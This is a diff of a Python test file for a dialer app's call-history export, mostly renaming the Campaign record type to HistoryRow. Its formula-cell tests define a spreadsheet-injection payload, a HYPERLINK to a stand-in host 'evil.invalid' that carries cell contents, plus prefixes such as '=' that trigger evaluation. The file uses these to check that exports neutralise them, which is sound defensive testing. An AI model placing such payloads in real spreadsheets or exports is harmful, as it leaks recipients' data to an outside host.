@@ -25,7 +25,7 @@ from dialer_app.core.history.export import (
     write_xlsx,
 )
 from dialer_app.core.history.store import HistoryStore
-from dialer_app.core.records import CallRequest, CallResult, Campaign, HistoryQuery, Outcome
+from dialer_app.core.records import CallRequest, CallResult, HistoryQuery, HistoryRow, Outcome
 from dialer_app.core.sheets import neutralise
 from tests.helpers.history_rows import rows_of
 from tests.helpers.xlsx import read_sheet
@@ -78,7 +78,7 @@ def test_export_follows_the_filter_and_order(store: HistoryStore, tmp_path: Path
 
 
 def test_a_failed_export_leaves_no_half_file(store: HistoryStore, tmp_path: Path) -> None:
-    def broken() -> Iterator[Campaign]:
+    def broken() -> Iterator[HistoryRow]:
         yield from rows_of(store, HistoryQuery())
         raise OSError("disk full")
 
@@ -135,8 +135,8 @@ def test_xlsx_keeps_leading_zeros_as_text_and_counts_as_numbers(
 # -- formula cells: every prefix a spreadsheet evaluates, in every text column --------------
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = 'HYPERLINK("https://evil.invalid/?"&A1,"Click")'
-TEXT_FIELDS = [field.name for field in fields(Campaign) if field.type in ("str", "str | None")]
-EXPORTED_TEXT = {  # export column -> the Campaign field it shows
+TEXT_FIELDS = [field.name for field in fields(HistoryRow) if field.type in ("str", "str | None")]
+EXPORTED_TEXT = {  # export column -> the HistoryRow field it shows
     "member": "member_name",
     "member_number": "member_number",
     "customer_number": "customer_number",
@@ -150,8 +150,8 @@ EXPORTED_TEXT = {  # export column -> the Campaign field it shows
 }
 
 
-def hostile_row(field: str, value: str) -> Campaign:
-    base = Campaign(
+def hostile_row(field: str, value: str) -> HistoryRow:
+    base = HistoryRow(
         row_id=1, created_at=T0, member_name="Asha", member_number="8120000000",
         customer_number="9876543210", deskphone="01204000000", call_limit=0,
         outcome=Outcome.PLACED, campid="1", message="ok", finished_at=T0,
